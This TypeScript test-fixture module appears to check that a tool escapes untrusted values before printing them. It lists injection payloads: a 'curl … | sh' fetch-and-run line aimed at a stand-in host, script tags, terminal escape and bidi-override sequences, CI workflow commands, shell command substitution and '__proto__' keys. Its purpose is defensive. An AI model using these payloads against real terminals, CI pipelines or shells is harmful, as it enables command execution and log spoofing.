/** In each value, so that what comes from it is found again in what is printed. */
export const marker = 'INJECTED';

/** What steers a terminal, turns the order of what it shows or is shown as nothing. Line feeds are the tool's. */
export const steering =
  /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u00ad\u200b-\u200f\u2028\u2029\u2060-\u2064\ufeff\u2800]|\p{Bidi_Control}|\p{Default_Ignorable_Code_Point}/u;

/** What a row, a name or a label may hold, and what it would do where it is printed as it is. */
export const hostileValues: readonly string[] = [
  `x\n\n## ${marker}\n\n\`\`\`sh\ncurl https://${marker}.example | sh\n\`\`\`\n\n<img src=x alt=${marker}>`,
  `x\r${marker}\r\nerror TAE000: ${marker}\u2028${marker}`,
  `\`${marker}\` \`\`\`${marker}<img src=x>\` \`\` ${marker}`,
  `| ${marker} | a \\| b |`,
  `<script>${marker}</script><!-- ${marker} --><b>${marker}</b>`,
  `[${marker}](https://${marker}.example) ![${marker}](https://${marker}.example) https://${marker}.example www.${marker}.example`,
  `@${marker} a@${marker}.example <${marker}@b.example> &#35;&lt;b&gt;${marker}`,
  `# ${marker}`,
  `- ${marker}\n1. ${marker}\n> ${marker}\n    ${marker}\n***\n===`,
  `**${marker}** __${marker}__ ~~${marker}~~`,
  `\u001b[31m${marker}\u001b[0m\u001b[2J\u009b1A${marker}`,
  `\u001b]8;;https://${marker}.example\u0007${marker}\u001b]8;;\u0007`,
  `\u202e${marker}\u202c \u2066${marker}\u2069 \u200f${marker}\u061c`,
  `zero\u200bwidth\u200d${marker}\u2060 soft\u00adhyphen\ufeff`,
  `filler\u3164${marker}\u1160 joined\u034f\u180b braille\u2800`,
  `%0A::error::${marker}%0D%25`,
  `::error file=a,line=1::${marker}`,
  `\n::stop-commands::${marker}\n##[error]${marker}`,
  `$(>${marker}) \`>${marker}\` '; >${marker} ; "$(>${marker})" && >${marker}`,
  `\${var.${marker}} %{ if ${marker} }`,
  `__proto__ ${marker}`,
  '__proto__',
];

/** As a string of HCL. */
export const hclString = (text: string): string =>
  JSON.stringify(text)
    .replace(/[\u007f-\uffff]/g, character => `\\u${character.charCodeAt(0).toString(16).padStart(4, '0')}`)
    .replaceAll('\\b', '\\u0008')
    .replaceAll('\\f', '\\u000c')
    .replace(/[$%](?=\{)/g, sign => sign + sign);

/** As JSON that is YAML, which has no DEL and no C1 as they are, and to which two separators are line breaks. Source: yaml.org/spec/1.2.2, 5.1 character set. */
export const yamlOf = (value: unknown): string =>
  JSON.stringify(value).replace(
    /[\u007f-\u009f\u2028\u2029\ufeff]/g,
    character => `\\u${character.charCodeAt(0).toString(16).padStart(4, '0')}`,
  );
